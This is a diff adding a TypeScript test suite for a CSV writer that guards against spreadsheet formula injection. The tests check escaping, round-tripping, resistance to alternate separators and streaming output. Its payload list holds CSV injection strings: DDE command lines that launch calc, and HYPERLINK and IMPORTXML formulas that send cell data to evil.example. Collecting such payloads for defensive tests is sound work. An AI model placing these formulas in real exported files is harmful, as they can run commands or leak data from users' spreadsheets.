@@ -1,0 +1,102 @@
+import { readFileSync } from "node:fs";
+import { parse } from "csv-parse/sync";
+import fc from "fast-check";
+import { formatCsvLine, guardFormula, unguardFormula, writeCsv } from "./write-csv";
+
+const naughty = JSON.parse(readFileSync("tests/corpora/naughty-strings.json", "utf8")) as string[];
+const signs = ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"];
+const before = ["", " ", "   ", '"', "'", "''", ' "', "\u00a0", "\u3000", "\ufeff", "\u200b"];
+const payloads = [
+  '=cmd|" /C calc"!A0',
+  '=HYPERLINK("https://evil.example?x="&A1,"open")',
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  '=1+1",=2+2',
+  '-2+3+cmd|" /C calc"!A0',
+  '+cmd|" /C calc"!A0',
+  '=IMPORTXML(CONCAT("https://evil.example?",A1),"//a")',
+  '"=1+1"',
+  "'=1+1",
+  ";=1+1",
+  "x\n=1+1",
+  "x;@SUM(1)",
+];
+const dangerous = [
+  ...signs.flatMap((sign) => before.map((lead) => `${lead}${sign}1+1`)),
+  ...payloads,
+  ...naughty,
+];
+/** As a spreadsheet sees a cell: what it skips goes first. */
+const beginsFormula = (cell: string) => /^[\s\p{Cf}"]*[=+\-@＝＋－＠]|^[\t\r\n]/u.test(cell);
+const withoutUnseen = (text: string) =>
+  // biome-ignore lint/suspicious/noControlCharactersInRegex: these are meant
+  text.replace(/[\0-\x08\x0b\x0c\x0e-\x1f\x7f]/g, "");
+
+describe("a CSV file", () => {
+  it.each(["=1", " =1", '"=1', "＝1", "\t1", "-1", "+49 1"])(
+    "never begins a cell as a formula: %j",
+    (text) => {
+      expect(guardFormula(text)).toBe(`'${text}`);
+    },
+  );
+
+  it("leaves ordinary texts as they are", () => {
+    for (const text of [
+      "RB123456785GB",
+      "a-b",
+      "Müller & Söhne",
+      "12,5 kg",
+      "x@y.example",
+      "O'Hara",
+      "a\nb",
+      "",
+    ])
+      expect(guardFormula(text)).toBe(text);
+  });
+
+  it("holds every dangerous text whole and harmless, in any place of a row, read by another parser", () => {
+    for (const text of dangerous) {
+      const kept = withoutUnseen(text);
+      const line = formatCsvLine([text, "x", text]);
+      const rows = parse(line, { relaxColumnCount: false }) as string[][];
+      expect(rows).toEqual([[guardFormula(kept), "x", guardFormula(kept)]]);
+      expect(rows.flat().filter(beginsFormula)).toEqual([]);
+      expect(unguardFormula(rows[0]?.[0] ?? "")).toBe(kept);
+    }
+  });
+
+  it("begins no formula either where a spreadsheet separates by semicolon or tab", () => {
+    for (const text of dangerous)
+      for (const cell of formatCsvLine([text]).split(/[;\t\r\n]/))
+        expect(beginsFormula(cell.replace(/^[\s"]+/, ""))).toBe(false);
+  });
+
+  it("gives every text back", () => {
+    const text = fc.string({ unit: fc.constantFrom(...signs, "'", '"', ";", " ", "a", "1", "\ufeff", ",") });
+    fc.assert(
+      fc.property(text, (one) => unguardFormula(guardFormula(one)) === one),
+      { numRuns: 3000, seed: 4 },
+    );
+  });
+
+  it("looks at the longest texts in time that grows with their length", () => {
+    const long = [" ", "'", "\t", ";", ";'", "\n "].map((unit) => unit.repeat(200_000));
+    for (const text of long) expect(unguardFormula(guardFormula(text))).toBe(text);
+  });
+
+  it("begins with a byte order mark, ends each line with CRLF, and asks for rows when they are wanted", async () => {
+    let asked = 0;
+    async function* rows() {
+      for (;;) {
+        asked += 1;
+        yield [["1", "ä"]];
+      }
+    }
+    const pieces = writeCsv(["a", "b,c"], rows());
+    const first = await pieces.next();
+    expect(Buffer.from(first.value ?? [])).toEqual(Buffer.from('\ufeffa,"b,c"\r\n'));
+    expect(asked).toBe(0);
+    expect(Buffer.from((await pieces.next()).value ?? []).toString()).toBe("1,ä\r\n");
+    await pieces.return();
+    expect(asked).toBe(1);
+  });
+});
